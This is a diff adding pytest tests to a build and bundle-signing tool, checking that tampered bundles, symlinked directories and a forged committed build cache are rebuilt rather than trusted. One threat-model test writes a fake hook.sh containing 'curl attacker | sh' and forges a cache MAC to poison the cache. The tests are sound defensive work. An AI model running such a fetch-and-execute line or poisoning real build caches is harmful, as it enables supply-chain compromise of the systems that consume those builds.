@@ -121,7 +121,73 @@ def test_a_tampered_cached_bundle_is_rendered_again(tmp_path: Path):
     b = _build(root, tmp_path / "out").bundles[0]
     (tmp_path / "out/bundles" / b.digest / "runner.json").write_text("{}")
     again = {x.name: x for x in _build(root, tmp_path / "out").bundles}
-    assert verify_bundle(tmp_path / "out/bundles" / b.digest, b.digest)[1] == [] or not again[b.name].reused
+    assert not again[b.name].reused
+    assert verify_bundle(tmp_path / "out/bundles" / b.digest, b.digest)[1] == []
+    assert again[b.name].digest == b.digest
+
+
+@pytest.mark.parametrize("damage", ["content", "extra-file", "link"])
+def test_write_bundle_never_trusts_a_directory_by_its_name(tmp_path: Path, damage: str):
+    from compiler.bundle import write_bundle
+
+    files = {"runner.json": b'{"a": 1}\n', "model/model.onnx": b"onnx"}
+    first = write_bundle(tmp_path / "bundles", "dep/t", "edge-pc", files, {})
+    final = tmp_path / "bundles" / first.digest
+    if damage == "content":
+        (final / "runner.json").write_text("{}")
+    elif damage == "extra-file":
+        (final / "model" / "evil.so").write_bytes(b"x")
+    else:
+        shutil.rmtree(final)
+        (tmp_path / "elsewhere").mkdir()
+        final.symlink_to(tmp_path / "elsewhere")
+    again = write_bundle(tmp_path / "bundles", "dep/t", "edge-pc", files, {})
+    assert again.digest == first.digest
+    assert not final.is_symlink() and verify_bundle(final, first.digest)[1] == []
+    if damage == "link":
+        assert list((tmp_path / "elsewhere").iterdir()) == []  # nothing was written through the link
+
+
+def test_threat_a_committed_build_cache_is_never_signed_as_built(tmp_path: Path):
+    """A spec-repo writer commits out/ with a crafted bundle under the reviewed inputs' cache key."""
+    from compiler.build import BUILD_CACHE
+    from compiler.bundle import Manifest, write_bundle
+
+    root = _copy("press-line-anomaly", tmp_path / "spec")
+    out = root / "out"  # the build output inside the repository, as `takt build --out out` makes it
+    honest = _build(root, out)
+    cache = json.loads((out / BUILD_CACHE).read_text())
+    key, entry = next(iter(cache["entries"].items()))
+    digest = entry["digest"]
+    bundle = out / "bundles" / digest
+    manifest = Manifest.parse((bundle / "MANIFEST.json").read_bytes())
+    files = {f.path: (bundle / f.path).read_bytes() for f in manifest.files}
+    files["runner.json"] = files["runner.json"].replace(b'"deployment"', b'"evil":true,"deployment"', 1)
+    files["hook.sh"] = b"#!/bin/sh\ncurl attacker | sh\n"
+    crafted = write_bundle(out / "bundles", manifest.name, manifest.target_class, files, manifest.provenance)
+    forged_mac = hashlib.sha256(f"{key}{crafted.digest}".encode()).hexdigest()
+    for k in cache["entries"]:  # every key points at the crafted bundle; the MAC is the attacker's best guess
+        cache["entries"][k] = {"digest": crafted.digest, "mac": forged_mac}
+    (out / BUILD_CACHE).write_text(json.dumps(cache))
+    # a fresh CI machine: another user cache, so another secret
+    again = build(validate(root), out, run_gates=False, cache_secret_dir=tmp_path / "ci-user-cache")
+    assert {b.digest for b in again.bundles} == {b.digest for b in honest.bundles}
+    assert not any(b.reused for b in again.bundles)
+    index = json.loads((out / "index.json").read_text())
+    assert crafted.digest not in json.dumps(index)
+
+
+def test_the_build_cache_hits_only_with_its_own_secret_and_survives_corruption(tmp_path: Path):
+    from compiler.build import BUILD_CACHE
+
+    root = _copy("press-line-anomaly", tmp_path / "spec")
+    first = build(validate(root), tmp_path / "out", run_gates=False)
+    second = build(validate(root), tmp_path / "out", run_gates=False)
+    assert all(b.reused for b in second.bundles) and second.bundles
+    (tmp_path / "out" / BUILD_CACHE).write_text('{"version": 2, "entries": [[[')
+    third = build(validate(root), tmp_path / "out", run_gates=False)
+    assert not any(b.reused for b in third.bundles)
+    assert [b.digest for b in third.bundles] == [b.digest for b in first.bundles]
 
 
 def test_failing_gate_blocks_the_bundle(tmp_path: Path, cli_run):
